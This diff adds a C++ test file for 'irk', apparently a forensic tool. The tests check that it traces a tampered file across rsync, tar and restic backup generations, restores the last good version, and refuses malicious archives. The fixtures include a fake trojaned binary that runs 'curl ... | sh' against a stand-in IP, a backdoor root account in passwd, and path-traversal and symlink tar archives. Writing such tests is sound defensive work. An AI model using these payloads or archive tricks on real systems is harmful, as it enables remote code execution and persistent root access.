@@ -1,0 +1,270 @@
+// End to end: irk backups and irk restore on generations made with the real
+// tools (rsync --link-dest, GNU tar --listed-incremental, restic), a file
+// tampered from the third generation on.
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <cstdlib>
+#include <fstream>
+
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
+
+#include "cli/testing/run_irk.h"
+#include "core/hash.h"
+#include "core/testing/temp_dir.h"
+
+namespace irk {
+namespace {
+
+namespace fs = std::filesystem;
+using testing::ReadAll;
+using testing::RunIrk;
+
+const std::string kGoodTool = "#!/bin/sh\necho the real tool\n";
+const std::string kEvilTool = "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
+const std::string kGoodPasswd = "root:x:0:0::/root:/bin/sh\n";
+const std::string kEvilPasswd = "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n";
+
+void Write(const fs::path& file, std::string_view text, mode_t mode = 0644) {
+  fs::create_directories(file.parent_path());
+  std::ofstream(file, std::ios::binary | std::ios::trunc) << text;
+  chmod(file.c_str(), mode);
+}
+
+bool Have(const char* program) {
+  return std::system(fmt::format("command -v {} >/dev/null 2>&1", program).c_str()) == 0;
+}
+
+int Sh(const std::string& command) { return std::system(command.c_str()); }
+
+// The md5 of `text` in hex, as dpkg's md5sums has it.
+std::string Md5(const fs::path& dir, std::string_view text) {
+  Write(dir / "md5-input", text);
+  const auto out = dir / "md5-output";
+  Sh(fmt::format("md5sum '{}' | cut -c1-32 > '{}'", (dir / "md5-input").string(), out.string()));
+  std::string md5 = ReadAll(out);
+  while (!md5.empty() && md5.back() == '\n') md5.pop_back();
+  return md5;
+}
+
+std::vector<nlohmann::json> JsonLines(const std::string& text) {
+  std::vector<nlohmann::json> lines;
+  size_t start = 0;
+  while (start < text.size()) {
+    const size_t end = text.find('\n', start);
+    lines.push_back(nlohmann::json::parse(text.substr(start, end - start)));
+    if (end == std::string::npos) break;
+    start = end + 1;
+  }
+  return lines;
+}
+
+class BackupsCommand : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    live_ = dir_.path() / "live";
+    img_ = dir_.path() / "img";
+    case_ = (dir_.path() / "case").string();
+    // The examined system now: tampered, with dpkg's hash of the real tool.
+    Write(img_ / "usr/bin/tool", kEvilTool, 0755);
+    Write(img_ / "etc/passwd", kEvilPasswd);
+    Write(img_ / "var/lib/dpkg/info/tool.md5sums",
+          Md5(dir_.path(), kGoodTool) + "  usr/bin/tool\n");
+  }
+  // The live tree as it was at generation `n` (1-based): tampered from 3 on.
+  void Prepare(int n) {
+    Write(live_ / "usr/bin/tool", n < 3 ? kGoodTool : kEvilTool, 0755);
+    Write(live_ / "etc/passwd", n < 3 ? kGoodPasswd : kEvilPasswd);
+    Write(live_ / "etc/hostname", "web1\n");
+  }
+  std::vector<std::string> Args(std::vector<std::string> rest) {
+    std::vector<std::string> args = {"--case", case_, "--root", img_.string()};
+    args.insert(args.end(), rest.begin(), rest.end());
+    return args;
+  }
+  // Seven dated generations made with rsync --link-dest.
+  fs::path MakeRsyncGenerations() {
+    const fs::path backup = dir_.path() / "rsync";
+    fs::create_directories(backup);
+    for (int n = 1; n <= 7; ++n) {
+      Prepare(n);
+      const std::string link =
+          n == 1 ? "" : fmt::format("--link-dest='{}/2026-11-0{}'", backup.string(), n - 1);
+      EXPECT_EQ(Sh(fmt::format("rsync -a {} '{}/' '{}/2026-11-0{}/'", link, live_.string(),
+                               backup.string(), n)),
+                0);
+    }
+    return backup;
+  }
+  testing::TempDir dir_;
+  fs::path live_;
+  fs::path img_;
+  std::string case_;
+};
+
+TEST_F(BackupsCommand, ListShowsRsyncGenerationsOldestFirst) {
+  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
+  const auto backup = MakeRsyncGenerations();
+  auto run = RunIrk(Args({"--json", "backups", "list", backup.string()}));
+  ASSERT_EQ(run.exit_code, 0) << run.err;
+  const auto lines = JsonLines(run.out);
+  ASSERT_EQ(lines.size(), 7u);
+  EXPECT_EQ(lines[0]["name"], "2026-11-01");
+  EXPECT_EQ(lines[6]["name"], "2026-11-07");
+  EXPECT_EQ(lines[0]["time_from"], "name");
+}
+
+TEST_F(BackupsCommand, HistoryAcrossRsyncGenerationsPicksTheSecondByThePackageHash) {
+  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
+  const auto backup = MakeRsyncGenerations();
+  auto run =
+      RunIrk(Args({"--json", "backups", "history", "/usr/bin/tool", "--from", backup.string()}));
+  ASSERT_EQ(run.exit_code, 1) << run.out << run.err;  // versions that differ are findings
+  const auto lines = JsonLines(run.out);
+  ASSERT_EQ(lines.size(), 3u) << run.out;
+  EXPECT_EQ(lines[0]["verdict"], "package");
+  EXPECT_EQ(lines[0]["generations"].size(), 2u);
+  EXPECT_EQ(lines[1]["verdict"], "differs");
+  EXPECT_EQ(lines[1]["generations"].size(), 5u);
+  EXPECT_EQ(lines[1]["sha256"], Sha256Hex(kEvilTool));
+  EXPECT_EQ(lines[2]["type"], "last_good");
+  EXPECT_EQ(lines[2]["generation"], "2026-11-02");
+  EXPECT_EQ(lines[2]["trusted"], true);
+}
+
+TEST_F(BackupsCommand, HistoryWithoutAReferenceUsesTheCompromiseTime) {
+  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
+  const auto backup = MakeRsyncGenerations();
+  auto run = RunIrk(Args({"backups", "history", "/etc/passwd", "--from", backup.string(), "--since",
+                          "2026-11-02T12:00:00Z"}));
+  ASSERT_EQ(run.exit_code, 0) << run.out << run.err;
+  EXPECT_NE(run.out.find("Last known good: 2026-11-02"), std::string::npos) << run.out;
+  EXPECT_NE(run.out.find("the version before the first change after"), std::string::npos);
+}
+
+TEST_F(BackupsCommand, HistoryAcrossGnuIncrementalTarLevels) {
+  const fs::path backup = dir_.path() / "tar";
+  fs::create_directories(backup);
+  for (int n = 1; n <= 7; ++n) {
+    Prepare(n);
+    // Level 0, then each level against the last: unchanged files are not stored.
+    ASSERT_EQ(Sh(fmt::format("tar --listed-incremental='{}/snar' -czf '{}/host-2026-11-0{}.tar.gz' "
+                             "-C '{}' .",
+                             backup.string(), backup.string(), n, live_.string())),
+              0);
+  }
+  fs::remove(backup / "snar");
+  auto run = RunIrk(Args({"--json", "backups", "history", "/etc/passwd", "--from", backup.string(),
+                          "--since", "2026-11-02T12:00:00Z"}));
+  ASSERT_EQ(run.exit_code, 0) << run.out << run.err;
+  const auto lines = JsonLines(run.out);
+  ASSERT_EQ(lines.size(), 3u) << run.out;
+  EXPECT_EQ(lines[0]["sha256"], Sha256Hex(kGoodPasswd));
+  EXPECT_EQ(lines[1]["sha256"], Sha256Hex(kEvilPasswd));
+  EXPECT_EQ(lines[1]["generations"].size(), 5u) << run.out;
+  EXPECT_EQ(lines[2]["generation"], "host-2026-11-02.tar.gz");
+}
+
+TEST_F(BackupsCommand, HistoryAcrossResticSnapshots) {
+  if (!Have("restic")) GTEST_SKIP() << "restic is not installed";
+  const fs::path repo = dir_.path() / "restic";
+  setenv("RESTIC_PASSWORD", "irk-test", 1);
+  ASSERT_EQ(Sh(fmt::format("restic init -q -r '{}' >/dev/null", repo.string())), 0);
+  for (int n = 1; n <= 7; ++n) {
+    Prepare(n);
+    ASSERT_EQ(Sh(fmt::format("cd '{}' && restic -q -r '{}' backup usr etc >/dev/null",
+                             live_.string(), repo.string())),
+              0);
+  }
+  auto run =
+      RunIrk(Args({"--json", "backups", "history", "/usr/bin/tool", "--from", repo.string()}));
+  ASSERT_EQ(run.exit_code, 1) << run.out << run.err;
+  const auto lines = JsonLines(run.out);
+  ASSERT_EQ(lines.size(), 3u) << run.out;
+  EXPECT_EQ(lines[0]["verdict"], "package");
+  EXPECT_EQ(lines[0]["mode"], "0755");
+  EXPECT_EQ(lines[1]["generations"].size(), 5u);
+  EXPECT_EQ(lines[2]["generation"],
+            lines[0]["generations"][1].get<std::string>().substr(repo.string().size() + 1));
+}
+
+TEST_F(BackupsCommand, RestoreLastGoodThenUndoGivesTheTamperedFileBack) {
+  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
+  const auto backup = MakeRsyncGenerations();
+  struct stat before {};
+  ASSERT_EQ(stat((img_ / "usr/bin/tool").c_str(), &before), 0);
+  auto restore =
+      RunIrk(Args({"restore", "/usr/bin/tool", "--last-good", "--from", backup.string(), "--yes"}));
+  ASSERT_EQ(restore.exit_code, 0) << restore.out << restore.err;
+  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kGoodTool);
+  struct stat restored {};
+  ASSERT_EQ(stat((img_ / "usr/bin/tool").c_str(), &restored), 0);
+  EXPECT_EQ(restored.st_mode & 07777, 0755u);
+
+  auto undo = RunIrk(Args({"undo", "--last", "--yes"}));
+  ASSERT_EQ(undo.exit_code, 0) << undo.out << undo.err;
+  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kEvilTool);
+  struct stat after {};
+  ASSERT_EQ(stat((img_ / "usr/bin/tool").c_str(), &after), 0);
+  EXPECT_EQ(after.st_mode, before.st_mode);
+  EXPECT_EQ(after.st_uid, before.st_uid);
+  EXPECT_EQ(after.st_gid, before.st_gid);
+}
+
+TEST_F(BackupsCommand, RestoreRefusesAnExecutableThatMatchesNoTrustedReference) {
+  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
+  const auto backup = MakeRsyncGenerations();
+  auto run = RunIrk(
+      Args({"restore", "/usr/bin/tool", "--from", (backup / "2026-11-05").string(), "--yes"}));
+  EXPECT_EQ(run.exit_code, 2);
+  EXPECT_NE(run.err.find("--force"), std::string::npos) << run.err;
+  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kEvilTool);
+}
+
+TEST_F(BackupsCommand, RestoreRefusesMaliciousArchives) {
+  const fs::path evil = dir_.path() / "evil";
+  Write(evil / "passwd", kEvilPasswd);
+  fs::create_directories(evil / "etc");
+  // A climbing name, an absolute name, and a link followed by a file through it.
+  ASSERT_EQ(
+      Sh(fmt::format("cd '{}' && tar -cf ../climb.tar --transform 's,^passwd,../../etc/passwd,' "
+                     "passwd 2>/dev/null",
+                     evil.string())),
+      0);
+  ASSERT_EQ(Sh(fmt::format("cd '{}' && tar -cPf ../absolute.tar --transform 's,^,/etc/,' passwd",
+                           evil.string())),
+            0);
+  ASSERT_EQ(Sh(fmt::format("cd '{}' && rmdir etc && ln -s /tmp etc && tar -cf ../link.tar etc && "
+                           "rm etc && mkdir etc && cp passwd etc/passwd && tar -rf ../link.tar "
+                           "etc/passwd",
+                           evil.string())),
+            0);
+  for (const char* archive : {"climb.tar", "absolute.tar", "link.tar"}) {
+    auto run = RunIrk(
+        Args({"restore", "/etc/passwd", "--from", (dir_.path() / archive).string(), "--yes"}));
+    EXPECT_EQ(run.exit_code, 2) << archive << run.out;
+    EXPECT_NE(run.err.find("refused"), std::string::npos) << archive << run.err;
+    EXPECT_EQ(ReadAll(img_ / "etc/passwd"), kEvilPasswd);
+  }
+}
+
+TEST_F(BackupsCommand, AuditWarnsAboutAWorldReadableShadowInTheNewestGeneration) {
+  const fs::path backup = dir_.path() / "snapshots";
+  Write(backup / "2026-11-01/etc/shadow", "root:$y$secret:20000::::::\n", 0644);
+  auto run = RunIrk(Args({"--json", "backups", "audit", backup.string()}));
+  EXPECT_EQ(run.exit_code, 1) << run.out << run.err;
+  bool secrets = false;
+  for (const auto& line : JsonLines(run.out)) {
+    if (line["check"] == "secrets") {
+      secrets = true;
+      EXPECT_EQ(line["level"], "warning");
+      EXPECT_NE(line["detail"].get<std::string>().find("/etc/shadow"), std::string::npos);
+    }
+  }
+  EXPECT_TRUE(secrets) << run.out;
+}
+
+}  // namespace
+}  // namespace irk
